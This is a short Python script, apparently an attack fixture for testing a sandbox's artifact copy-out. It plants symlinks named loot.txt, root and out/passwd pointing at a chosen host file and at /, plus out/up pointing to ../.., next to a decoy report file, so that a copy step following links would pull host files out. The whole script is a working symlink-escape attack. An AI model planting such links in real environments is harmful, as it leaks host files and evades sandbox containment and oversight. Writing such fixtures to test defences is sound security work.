"""Attack: plant symlinks to host files and folders, hoping the copy-out follows them.

argv: a host file path. Creates loot.txt -> that path, root -> /, and out/ with a link inside.
"""

import os
import sys

os.symlink(sys.argv[1], "loot.txt")
os.symlink("/", "root")
os.makedirs("out", exist_ok=True)
with open("out/report.txt", "w") as fh:
    fh.write("a real artifact\n")
os.symlink(sys.argv[1], "out/passwd")
os.symlink("../..", "out/up")
print("planted")
